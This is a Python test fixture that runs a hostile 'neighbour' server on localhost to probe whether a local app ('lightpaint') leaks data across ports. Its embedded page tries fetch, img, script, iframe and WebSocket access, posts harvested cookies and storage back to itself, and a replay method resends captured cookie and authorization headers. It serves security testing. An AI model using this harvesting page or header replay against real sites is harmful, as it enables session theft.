"""Another server of this machine, whose page a person visits: it collects all that a browser sends.

Browsers tell no ports apart where they attach cookies, so a neighbour gets those of all servers
that the browser calls by the same name.
"""

import http.client
import json
import threading
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from websockets.exceptions import InvalidHandshake
from websockets.sync.client import connect
from websockets.typing import Origin, Subprotocol

#: A page that reaches for the painter in all ways that a page has, and says how far it came.
PAGE = """<!doctype html><title>neighbour</title><script type="module">
const there = new URLSearchParams(location.search).get('of');
const tried = {};
for (const path of ['data/present', 'key', 'live'])
  for (const mode of ['cors', 'no-cors', 'same-origin'])
    try {
      const answer = await fetch(there + path, { mode, credentials: 'include' });
      tried[`${mode} ${path}`] = await answer.text();
    } catch { tried[`${mode} ${path}`] = ''; }
const element = (name, about) => new Promise((done) => {
  const made = Object.assign(document.createElement(name), about);
  made.onload = () => done('loaded');
  made.onerror = () => done('');
  setTimeout(() => done(''), 500);
  document.body.append(made);
});
tried.img = await element('img', { src: `${there}data/present` });
tried.script = await element('script', { src: `${there}main.js` });
const frame = document.createElement('iframe');
frame.src = there;
document.body.append(frame);
await new Promise((done) => setTimeout(done, 300));
try { tried.iframe = frame.contentWindow.sessionStorage.length + ''; } catch { tried.iframe = ''; }
for (const words of [[], ['lightpaint']])
  tried[`socket ${words}`] = await new Promise((done) => {
    const socket = new WebSocket(there.replace('http', 'ws') + 'live', words);
    socket.onopen = () => done('open');
    socket.onclose = () => done('');
  });
tried.kept = Object.values({ ...localStorage, ...sessionStorage }).join() + document.cookie;
tried.referrer = document.referrer;
document.title = 'done';
await fetch('/tried', { method: 'POST', body: JSON.stringify(tried) });
</script><body>"""


class ForeignServer:
    """On a port of its own.

    Attributes:
        collected: The headers of each request that a browser has sent.
        tried: What its page has got from the painter, by how; "" where that is nothing.
    """

    def __init__(self) -> None:
        self.collected: list[dict[str, str]] = []
        self.tried: dict[str, str] = {}
        self.has_tried = threading.Event()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.collected.append({"path": self.path, **dict(self.headers.items())})
                self._send(b"" if self.path == "/favicon.ico" else PAGE.encode())

            def do_POST(self) -> None:
                server.collected.append({"path": self.path, **dict(self.headers.items())})
                server.tried = json.loads(self.rfile.read(int(self.headers["content-length"])))
                self._send(b"")
                server.has_tried.set()

            def _send(self, content: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self._server.server_port}/"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def replay(self, painter: str) -> list[str]:
        """Send the painter what was collected, under its own name; return what it gave away."""
        address = urlsplit(painter)
        assert address.hostname is not None
        statuses = []
        for headers in self.collected:
            own = {name: value for name, value in headers.items() if name.lower() in ATTACHED}
            own |= {"Host": address.netloc, "Origin": f"http://{address.netloc}"}
            for path in ("/data/present", "/key"):
                with closing(http.client.HTTPConnection(address.hostname, address.port)) as asking:
                    asking.request("GET", path, headers=own)
                    answer = asking.getresponse()
                    if answer.status not in (403, 410):
                        statuses.append(f"{path}: {answer.status} {answer.read()[:40]!r}")
            cookie = {name: value for name, value in own.items() if name.lower() == "cookie"}
            try:
                connect(
                    f"ws://{address.netloc}/live",
                    origin=Origin(f"http://{address.netloc}"),
                    additional_headers=cookie,
                    subprotocols=[Subprotocol("lightpaint")],
                    proxy=None,
                ).close()
                statuses.append("a socket")
            except InvalidHandshake:
                pass
        return statuses


#: Headers by which a browser could say who somebody is.
ATTACHED = ("cookie", "authorization", "referer", "proxy-authorization", "sec-websocket-protocol")
